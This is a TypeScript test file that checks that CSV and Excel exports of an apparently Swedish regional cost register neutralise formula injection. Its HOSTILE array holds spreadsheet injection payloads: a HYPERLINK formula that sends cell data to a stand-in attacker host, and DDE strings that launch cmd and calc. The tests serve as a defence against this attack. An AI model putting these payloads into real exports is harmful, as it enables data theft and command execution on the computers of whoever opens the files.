import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { StartedApp } from '../../src/main/services/bootstrap';
import { caller } from '../helpers/call';
import { groupId, setUpSeed001 } from '../helpers/costs';
import { exportPackageBytes, importInput, importPackageOk, startInstallation } from '../helpers/packages';
import { startTestApp } from '../helpers/temp';
import { personFields } from '../helpers/setup';

/**
 * Issue 16, point 5: names and labels written by another region arrive in a package and land in every
 * CSV and .xlsx export. No cell may become a live formula (OWASP CSV injection).
 */
const HOSTILE = [
  '=HYPERLINK("http://angripare.example/?d="&A1;"Klicka här")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '-2+3+cmd|calc',
  '=1+1\nandra raden',
];
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_AMOUNT = /^-?\d+(,\d+)?$/;

let sender: StartedApp;
let receiver: StartedApp;

beforeAll(async () => {
  sender = await startTestApp();
  await setUpSeed001(sender, 'NORRA');
  const { ok } = caller(sender);
  const group = await groupId(sender, 'Endokrina sjukdomar');
  for (const [i, name] of HOSTILE.entries()) {
    const person = await ok('persons:create', { ...personFields, name, notes: name });
    await ok('memberships:create', {
      personId: person.id,
      groupId: group,
      seatId: null,
      role: 'MEMBER',
      startDate: '2024-01-01',
      endDate: null,
      allocationBp: 1000,
      status: 'DECIDED',
      notes: name,
    });
    await ok('fixed-contributions:create', {
      regionCode: '23',
      year: 2024,
      recipient: name,
      label: HOSTILE[(i + 1) % HOSTILE.length]!,
      amountOre: 100,
    });
  }
  receiver = await startInstallation('23');
  const { bytes } = await exportPackageBytes(sender, { scope: 'own', recipient: '23' });
  const result = await importPackageOk(receiver, importInput(bytes, { confirmMassDeletion: true, trustSigner: true }));
  expect(result.status).toBe('applied');
}, 120_000);

afterAll(async () => {
  await sender?.opened.close();
  await receiver?.opened.close();
});

async function workbookCells(base64: string): Promise<ExcelJS.Cell[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(base64, 'base64') as unknown as ArrayBuffer);
  const cells: ExcelJS.Cell[] = [];
  for (const sheet of wb.worksheets) sheet.eachRow((row) => row.eachCell((cell) => void cells.push(cell)));
  return cells;
}

/** Every cell holding hostile text is a plain string cell, never a formula; returns how many were seen. */
function checkWorkbook(cells: readonly ExcelJS.Cell[]): number {
  let hostile = 0;
  for (const cell of cells) {
    const value = cell.value;
    if (value !== null && typeof value === 'object' && 'formula' in value) {
      expect(String(value.formula)).toMatch(/^SUM\([A-Z]+\d+:[A-Z]+\d+\)$/);
      continue;
    }
    if (typeof value === 'string' && HOSTILE.some((h) => value.includes(h.split('\n')[0]!))) {
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      hostile += 1;
    }
  }
  return hostile;
}

describe('exports of names from another region', () => {
  it('the cost CSV neutralises every formula prefix (apostrophe first), and the names still read back', async () => {
    const file = await caller(receiver).ok('costs:export-csv', { year: 2024 });
    const text = Buffer.from(file.contentBase64, 'base64').toString('utf8').slice(1);
    const parsed = Papa.parse<string[]>(text, { delimiter: ';', skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    const cells = parsed.data.flat();
    expect(cells.filter((c) => FORMULA_START.test(c) && !PLAIN_AMOUNT.test(c))).toEqual([]);
    for (const name of HOSTILE) expect(cells).toContain(`'${name}`);
  });

  it('the cost, register and year-plan workbooks hold the names as text cells, not formulas', async () => {
    const costs = await caller(receiver).ok('costs:export-xlsx', { year: 2024 });
    const register = await caller(receiver).ok('register:export', {});
    const plan = await caller(receiver).ok('year-plan:export-xlsx', { year: 2024 });
    expect(checkWorkbook(await workbookCells(costs.contentBase64))).toBeGreaterThanOrEqual(HOSTILE.length);
    expect(checkWorkbook(await workbookCells(register.contentBase64))).toBeGreaterThanOrEqual(HOSTILE.length);
    checkWorkbook(await workbookCells(plan.contentBase64));
  });
});
